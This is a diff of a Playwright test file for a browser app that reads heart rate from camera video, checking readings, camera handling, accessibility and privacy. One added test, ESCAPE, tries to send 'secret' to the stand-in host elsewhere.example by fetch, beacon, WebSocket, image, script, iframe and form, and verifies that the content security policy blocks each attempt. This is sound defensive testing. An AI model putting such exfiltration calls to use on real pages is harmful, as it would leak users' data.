@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import os
 import time
 from collections.abc import Callable
@@ -12,9 +13,13 @@ import pytest
 
 from phase_rppg.web import Asset, PageServer
 
-from .filming import FPS, TICK_FRAMES, empty, film, write_y4m
+from .conftest import missing
+from .filming import empty, film, write_y4m
+from .projection import FAIR_FPS, WATCH, clearing_s, page_fps, read, wait
 
 SHOTS = "PHASE_SCREENSHOTS"  # a folder: pictures of every state are kept there
+DESKTOP = {"width": 1280, "height": 900}
+PHONE = {"width": 390, "height": 844}
 
 
 def shoot(page: Any, name: str) -> None:
@@ -22,40 +27,9 @@ def shoot(page: Any, name: str) -> None:
         page.screenshot(path=str(Path(folder) / f"{name}.png"), full_page=True)
 
 
-def state(page: Any) -> tuple[str, str]:
-    return page.get_attribute("#reading", "data-state"), page.inner_text("#bpm")
-
-
-def wait_for_reading(page: Any) -> float:
-    """The number, once the page is steady: within 30 s, unless this computer is too busy to show 15 fps."""
-    try:
-        page.wait_for_selector("#reading[data-state=steady]", timeout=30_000)
-    except Exception:
-        fps = float(page.inner_text("#facts").split()[0])
-        assert fps < 15, f"{page.inner_text('#reading')} at {fps} fps"
-        page.wait_for_selector("#reading[data-state=steady]", timeout=120_000)
-    return float(page.inner_text("#bpm"))
-
-
-def pace(page: Any) -> float:
-    """How fast the film really ran during the last window: 1 on a computer that has time for it."""
-    first, *_, last = ticks = page.evaluate("() => window.ticks.slice(1).slice(-11)")
-    return (len(ticks) - 1) * TICK_FRAMES / FPS / ((last - first) / 1000)
-
-
-def assert_reads(page: Any, truth_bpm: float) -> None:
-    """The number is the heart's; where the film stumbles, as soon as a window has run at an even pace."""
-    bpm = wait_for_reading(page)
-    until = time.monotonic() + 60
-    while abs(bpm - truth_bpm * pace(page)) > 2:
-        assert pace(page) < 0.98, f"{bpm} bpm for {truth_bpm:.1f} at full pace"
-        assert time.monotonic() < until, f"{bpm} bpm for {truth_bpm:.1f} at pace {pace(page):.3f}"
-        page.wait_for_timeout(1000)
-        bpm = wait_for_reading(page)
-
-
 def assert_kept_to_itself(page: Any, server: PageServer) -> None:
     assert page.problems == []
+    assert f"{server.url}models/face/yunet.onnx" in page.requests  # the worker's requests are counted too
     foreign = [url for url in page.requests if not url.startswith((server.url, "blob:"))]
     assert foreign == []
 
@@ -68,83 +42,108 @@ def test_a_face_is_read_and_when_it_goes_the_number_goes(
     serve: Serve, browse: Browse, tmp_path: Path
 ) -> None:
     frames, _, truth_bpm = film(72, 10)
-    y4m = write_y4m(tmp_path / "72.y4m", [*frames, *frames, *frames, *empty(6)])
+    reel = [*frames, *frames, *frames, *empty(6)]
     server = serve()
-    with browse(y4m, viewport={"width": 1280, "height": 900}) as page:
+    with browse(write_y4m(tmp_path / "72.y4m", reel), viewport=DESKTOP, color_scheme="dark") as page:
         page.goto(server.url)
         page.click("#start")
         page.evaluate(WATCH)
-        assert_reads(page, truth_bpm)
-        shoot(page, "steady-dark")
-        until = time.monotonic() + 60  # the film is a loop: sooner or later the face goes
-        while (took_ms := page.evaluate("() => window.cleared - window.gone")) != took_ms:  # not a number yet
-            assert time.monotonic() < until
-            page.wait_for_timeout(200)
-        assert took_ms <= 2000
+        read(page, truth_bpm, len(reel), faces=3 * len(frames))
+        shoot(page, "steady-desktop-dark")
+        wait(page, lambda: clearing_s(page, 3 * len(frames)) is not None, "a face that leaves at full pace")
         shoot(page, "gone")
+        took_s = clearing_s(page, 3 * len(frames))
+        assert took_s is not None
+        assert took_s <= 2
         assert_kept_to_itself(page, server)
-
-
-# Reads the clock in the film's corner. The fake camera never skips a frame, so on a busy machine the film and
-# the heart in it run slower than they were made: the ticks say by how much. White says that nobody is there.
-WATCH = """() => {
-  const canvas = document.createElement("canvas");
-  canvas.width = canvas.height = 1;
-  const context = canvas.getContext("2d", { willReadFrequently: true });
-  let shown = false, before = null;
-  window.ticks = [];
-  setInterval(() => {
-    context.drawImage(document.querySelector("#video"), 4, 4, 1, 1, 0, 0, 1, 1);
-    const level = context.getImageData(0, 0, 1, 1).data[1];
-    if (level < 200 && level > 60 !== before) {
-      before = level > 60;
-      window.ticks.push(performance.now());
-    }
-    const number = /\\d/.test(document.querySelector("#bpm").textContent);
-    shown ||= number;
-    if (shown && level > 200) window.gone ??= performance.now();
-    if (window.gone !== undefined && !number) window.cleared ??= performance.now();
-  }, 50);
-}"""
 
 
 def test_a_fast_heart_is_read(serve: Serve, browse: Browse, tmp_path: Path) -> None:
     frames, _, truth_bpm = film(110, 12)
     server = serve()
     with browse(
-        write_y4m(tmp_path / "110.y4m", frames), color_scheme="light", viewport={"width": 390, "height": 844}
+        write_y4m(tmp_path / "110.y4m", frames), color_scheme="light", viewport=PHONE, accept_downloads=True
     ) as page:
         page.goto(server.url)
         page.focus("body")
         page.keyboard.press("s")  # the keyboard starts it
         page.evaluate(WATCH)
-        assert_reads(page, truth_bpm)
+        read(page, truth_bpm, len(frames))
         page.keyboard.press("m")
         page.wait_for_timeout(300)
         shoot(page, "steady-phone-light")
         assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")  # nothing hangs over
+        for scheme, where, size in (("dark", "phone", PHONE), ("light", "desktop", DESKTOP)):
+            page.emulate_media(color_scheme=scheme)
+            page.set_viewport_size(size)
+            page.wait_for_timeout(500)
+            shoot(page, f"steady-{where}-{scheme}")
         with page.expect_download() as saved:
             page.click("#csv")
         lines = Path(saved.value.path()).read_text().splitlines()
         assert lines[0].startswith("video,face,start_s,end_s,bpm")
-        assert len(lines) > 1
+        assert [float(line.split(",")[2]) for line in lines[1:4]] == [
+            0,
+            1,
+            2,
+        ]  # the clock starts with the session
         page.keyboard.press("s")
         page.wait_for_selector("#reading[data-state=idle]")
+        assert (
+            page.evaluate("document.querySelector('#video').srcObject") is None
+        )  # the camera's light is out
         assert_kept_to_itself(page, server)
 
 
-def test_a_photo_gets_no_number(serve: Serve, browse: Browse, tmp_path: Path) -> None:
+def test_a_photo_gets_no_number_for_want_of_a_pulse(serve: Serve, browse: Browse, tmp_path: Path) -> None:
     frames, _, _ = film(72, 8, world="photo")
     server = serve()
-    with browse(write_y4m(tmp_path / "photo.y4m", frames)) as page:
+    with browse(write_y4m(tmp_path / "photo.y4m", frames), viewport=DESKTOP) as page:
         page.goto(server.url)
         page.click("#start")
-        page.wait_for_selector("#reading[data-state=none]", timeout=30_000)
-        until = time.monotonic() + 6
-        while time.monotonic() < until:
-            assert state(page)[1] == "––"
+        page.wait_for_selector("#reading[data-state=none]", timeout=120_000)
+        fair_s, until = 0.0, time.monotonic() + 120
+        while fair_s < 6:
+            assert time.monotonic() < until, "this computer is too busy to show the photo at full frame rate"
+            assert page.inner_text("#bpm") == "––"
+            reason = page.get_attribute("#reading", "data-reason")
+            if page_fps(page) >= FAIR_FPS and reason not in ("LOW_FPS", "BAD_TIMESTAMPS"):
+                assert reason == "NO_PULSE"
+                fair_s += 0.2
             page.wait_for_timeout(200)
         shoot(page, "photo")
+        assert_kept_to_itself(page, server)
+
+
+def test_another_camera_can_be_chosen_and_one_that_falls_silent_shows_no_number(
+    serve: Serve, browse: Browse, tmp_path: Path
+) -> None:
+    frames, _, _ = film(72, 2)
+    server = serve()
+    with browse(write_y4m(tmp_path / "short.y4m", frames)) as page:
+        page.goto(server.url)
+        assert not page.is_visible("#camera")  # nobody has allowed a camera yet
+        page.click("#start")
+        page.wait_for_selector("#reading[data-state=measuring]", timeout=120_000)
+        first, second = page.eval_on_selector_all("#camera option", "all => all.map((one) => one.value)")
+        used = "document.querySelector('#video').srcObject?.getVideoTracks()[0].getSettings().deviceId"
+        assert page.evaluate(used) == first == page.input_value("#camera")
+        page.select_option("#camera", second)
+        page.wait_for_function(f"{used} === {json.dumps(second)}")
+        page.wait_for_selector("#reading[data-state=measuring]", timeout=120_000)
+        page.keyboard.press("Escape")
+        page.click("#start")
+        page.click("#start")  # stopped and started: the choice stays
+        page.wait_for_function(f"{used} === {json.dumps(second)}")
+        page.wait_for_selector("#reading[data-state=measuring]", timeout=120_000)
+        page.evaluate("document.querySelector('#video').pause()")
+        page.wait_for_function("document.querySelector('#guidance').textContent.includes('no picture')")
+        page.evaluate("document.querySelector('#video').play()")
+        page.wait_for_selector("#reading[data-state=measuring]", timeout=120_000)
+        page.evaluate(
+            "document.querySelector('#video').srcObject.getVideoTracks()[0].dispatchEvent(new Event('ended'))"
+        )
+        page.wait_for_function("document.querySelector('#guidance').textContent.includes('unplugged')")
         assert_kept_to_itself(page, server)
 
 
@@ -168,23 +167,31 @@ DROP = """async () => {
 }"""
 
 
-def test_a_dropped_video_gets_its_report(serve: Serve, browse: Browse, tmp_path: Path) -> None:
+@pytest.mark.parametrize("host", ["phase live", "any static host"])
+def test_a_dropped_video_gets_its_report(
+    host: str, serve: Serve, static: Callable[..., str], browse: Browse, tmp_path: Path
+) -> None:
     from phase_rppg.video.encode import write_video
 
     frames, t_s, truth_bpm = film(84, 12, seed=9)
-    write_video(tmp_path / "film.mp4", iter(frames), t_s=t_s, crf=12, preset="veryfast")
-    server = serve({"film.mp4": Asset("video/mp4", tmp_path / "film.mp4")})
-    with browse(viewport={"width": 1280, "height": 900}, color_scheme="light") as page:
-        page.goto(server.url)
+    mp4 = tmp_path / "film.mp4"
+    write_video(mp4, iter(frames), t_s=t_s, crf=12, preset="veryfast")
+    address = serve({mp4.name: Asset("video/mp4", mp4)}).url if host == "phase live" else static(mp4)
+    with browse(viewport=DESKTOP, color_scheme="light") as page:
+        page.goto(address)
         page.evaluate(DROP)
-        page.wait_for_selector("#report:not([hidden])", timeout=60_000)
+        page.wait_for_selector("#report:not([hidden])", timeout=240_000)
         assert abs(float(page.inner_text("#report .summary b")) - truth_bpm) <= 2
         assert page.locator("#report tbody tr").count() >= 2
+        assert_accessible(page)
         shoot(page, "report-light")
         with page.expect_download() as saved:
             page.click("#json")
-        assert '"video": "film.mp4"' in Path(saved.value.path()).read_text()
-        assert_kept_to_itself(page, server)
+        document = json.loads(Path(saved.value.path()).read_text())
+        assert document["video"] == "film.mp4"
+        assert document["warnings"] == []
+        assert page.problems == []
+        assert [url for url in page.requests if not url.startswith((address, "blob:"))] == []
 
 
 def test_a_file_that_is_no_video_is_explained(serve: Serve, browse: Browse, tmp_path: Path) -> None:
@@ -205,18 +212,90 @@ def test_a_damaged_network_is_refused(serve: Serve, browse: Browse) -> None:
         assert "damaged" in page.inner_text("#guidance")
 
 
-@pytest.mark.parametrize("scheme", ["dark", "light"])
-def test_everything_has_a_name_for_those_who_do_not_see_it(serve: Serve, browse: Browse, scheme: str) -> None:
+def test_a_missing_file_is_named(serve: Serve, browse: Browse) -> None:
     server = serve()
-    with browse(color_scheme=scheme, viewport={"width": 1280, "height": 900}) as page:
+    del server.assets["models/infer/phasenet-stream.onnx"]
+    with browse() as page:
         page.goto(server.url)
-        nameless = page.evaluate(
-            """() => [...document.querySelectorAll("button, select, input, video, [role=img], section")]
-              .filter((e) => !(e.ariaLabel || e.getAttribute("aria-labelledby")))
-              .filter((e) => !(e.textContent.trim() || e.labels?.length))
-              .map((e) => e.outerHTML)"""
-        )
-        assert nameless == []
+        page.wait_for_selector("#reading[data-state=none]")
+        assert "phasenet-stream.onnx is missing" in page.inner_text("#guidance")
+
+
+# Sends something to another place, in every way a page has, and gathers what the policy says to it.
+ESCAPE = """async () => {
+  const blocked = [];
+  document.addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
+  const elsewhere = "https://elsewhere.example/";
+  await fetch(elsewhere, { mode: "no-cors", method: "POST", body: "secret" }).catch(() => undefined);
+  navigator.sendBeacon(elsewhere, "secret");
+  try { new WebSocket("wss://elsewhere.example/"); } catch {}
+  document.body.append(Object.assign(new Image(), { src: elsewhere }));
+  document.head.append(Object.assign(document.createElement("script"), { src: elsewhere }));
+  document.body.append(Object.assign(document.createElement("iframe"), { src: elsewhere }));
+  const form = Object.assign(document.createElement("form"), { action: elsewhere, method: "post" });
+  document.body.append(form);
+  form.submit();
+  await new Promise((done) => setTimeout(done, 500));
+  return [...new Set(blocked)].sort();
+}"""
+
+
+def test_the_policy_forbids_every_way_out(serve: Serve, browse: Browse) -> None:
+    with browse() as page:
+        page.goto(serve().url)
+        blocked = page.evaluate(ESCAPE)
+        assert {"connect-src", "form-action", "frame-src", "img-src", "script-src-elem"} <= set(blocked)
+
+
+def test_the_keyboard_reaches_everything_in_the_order_of_the_page(serve: Serve, browse: Browse) -> None:
+    with browse(viewport=DESKTOP) as page:
+        page.goto(serve().url)
+        reached = []
+        for _ in range(5):
+            page.keyboard.press("Tab")
+            reached.append(page.evaluate("document.activeElement.id || document.activeElement.className"))
+        assert reached == ["skip", "theme", "start", "open", "mask"]
+        page.keyboard.press("Space")
+        assert page.is_checked("#mask")
+        page.keyboard.press("m")
+        assert not page.is_checked("#mask")
+        with page.expect_file_chooser():
+            page.keyboard.press("o")
+        page.focus("#theme")
+        page.keyboard.press("Enter")
+        assert page.get_attribute("html", "data-theme") in ("dark", "light")
+
+
+AXE = Path(__file__).parent.parent.parent / "web" / "node_modules" / "axe-core" / "axe.min.js"
+
+
+def assert_accessible(page: Any) -> None:
+    """No rule of axe-core is broken: names, roles, order of headings, contrast of at least 4.5."""
+    if not AXE.is_file():
+        missing("axe-core", "run scripts/build-web")
+    page.evaluate(AXE.read_text(encoding="utf-8"))  # past the policy, which lets no foreign script in
+    found = page.evaluate(
+        "() => axe.run(document, { runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'best-practice'] })"
+    )
+    broken = [
+        f"{rule['id']}: {node['target']} {node['any'][:1] or node['all'][:1] or node['none'][:1]}"
+        for rule in found["violations"]
+        for node in rule["nodes"]
+    ]
+    assert broken == []
+
+
+@pytest.mark.parametrize("scheme", ["dark", "light"])
+def test_everybody_can_use_it(serve: Serve, browse: Browse, scheme: str) -> None:
+    server = serve()
+    with browse(color_scheme=scheme, viewport=DESKTOP) as page:
+        page.goto(server.url)
         assert page.get_attribute("html", "lang") == "en"
         assert "no picture and no number is sent anywhere" in page.inner_text("footer")
+        assert page.get_attribute("#announce", "aria-live") == "polite"
+        assert_accessible(page)
         shoot(page, f"idle-{scheme}")
+        # The same with a number, as in a measurement: every state has colours of its own.
+        for mood in ("steady", "unsure", "none"):
+            page.evaluate(f"document.querySelector('#reading').dataset.state = '{mood}'")
+            assert_accessible(page)
